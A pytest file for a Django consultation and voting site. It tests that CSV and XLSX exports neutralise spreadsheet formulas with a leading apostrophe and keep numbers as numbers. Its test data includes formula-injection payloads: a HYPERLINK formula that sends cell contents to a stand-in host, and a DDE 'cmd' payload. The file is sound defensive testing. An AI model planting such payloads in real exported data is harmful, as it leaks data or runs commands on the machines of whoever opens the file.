"""A resident's text that a spreadsheet would run as a formula (=, +, -, @, tab, carriage return
first) reaches every exported file with an apostrophe before it (`home.spreadsheets`), through the
export a moderator downloads: the inbox's CSV and XLSX, the voters' CSV for the registry check and
the vote's open data. Numbers stay numbers."""

import csv
import io
import re
from datetime import timedelta

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from consultation.choices import SubmissionStatus
from consultation.models import Ballot, Submission
from home.spreadsheets import neutralise_formula
from tests.consultation_fixtures import field_names, post_comment
from tests.voting_fixtures import shifted_time

FORMULAS = ['=HYPERLINK("http://zly.example/?"&A1;"Kliknij")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
CONTROL = ["\tx=1+1", "\r=1+1"]
pytestmark = pytest.mark.usefixtures("no_rate_limits")


@pytest.mark.parametrize("value", FORMULAS + CONTROL)
def test_a_formula_gets_an_apostrophe(value):
    assert neutralise_formula(value) == "'" + value


@pytest.mark.parametrize("value", ["-12", "+48", "-1,5", "-0.25", "Zielona 12", "", "a=b", 5, -12, None])
def test_numbers_and_ordinary_text_stay_as_they_are(value):
    assert neutralise_formula(value) == value


@pytest.fixture
def moderator_client(client, moderator):
    client.force_login(moderator)
    return client


NUMBER_RE = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def cells_starting_with_a_formula(rows):
    """Text cells a spreadsheet would read as a formula (a plain number like "-12" is a value)."""
    return [
        cell
        for row in rows
        for cell in row
        if isinstance(cell, str) and cell[:1] in tuple("=+-@\t\r") and not NUMBER_RE.fullmatch(cell)
    ]


def export(moderator_client, export_format, **params):
    response = moderator_client.get(reverse("submission_inbox:index"), {"export": export_format, **params})
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if export_format == "csv":
        return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    sheet = load_workbook(io.BytesIO(content)).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


@pytest.fixture
def formula_comments(client, consultations):
    page = consultations.open
    for formula in FORMULAS + CONTROL:
        assert post_comment(client, page, name=formula, text=formula).status_code == 302
    names = field_names(page)
    Submission.objects.create(
        page=page,
        form_data={names["name"]: "-12", names["text"]: -12, names["consent"]: True},
        status=SubmissionStatus.PENDING,
    )
    return page


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_inbox_export_neutralises_formulas_and_keeps_numbers(
    moderator_client, formula_comments, export_format
):
    header, *rows = export(moderator_client, export_format, page=formula_comments.pk)

    assert not cells_starting_with_a_formula(rows)
    assert {"'" + formula for formula in FORMULAS} <= {cell for row in rows for cell in row}
    number_row = next(row for row in rows if "-12" in row)
    assert (-12 if export_format == "xlsx" else "-12") in number_row[number_row.index("-12") + 1 :]


def test_inbox_export_of_every_form_neutralises_formulas(moderator_client, formula_comments):
    for export_format in ("csv", "xlsx"):
        header, *rows = export(moderator_client, export_format)

        assert len(rows) == len(FORMULAS + CONTROL) + 1
        assert not cells_starting_with_a_formula(rows)


def test_voters_export_neutralises_formulas_in_personal_data(voter, voting, moderator_client):
    voter.vote(
        voting.projects["park"], imie="=HYPERLINK(1)", nazwisko="@SUM(A1)", adres="+1+cmd|' /C calc'!A0"
    )
    assert Ballot.objects.count() == 1

    response = moderator_client.post(reverse("ballots:export", args=[voting.page.pk]))

    assert response.status_code == 200
    header, *rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
    assert not cells_starting_with_a_formula(rows)
    [row] = rows
    assert {"'=HYPERLINK(1)", "'@SUM(A1)", "'+1+cmd|' /C calc'!A0"} <= set(row)
    assert row[0].isdigit()


def test_open_data_csv_has_no_formula_and_numbers_as_numbers(voter, voting, client):
    voter.vote(voting.projects["park"])

    with shifted_time(timedelta(days=15)):
        response = client.get(voting.page.url + "dane-otwarte/karty-csv/")

    assert response.status_code == 200
    header, *rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
    assert header == ["ballot", "channel", "projects"]
    assert not cells_starting_with_a_formula(rows)
    assert rows[0][2] == str(voting.projects["park"].number)
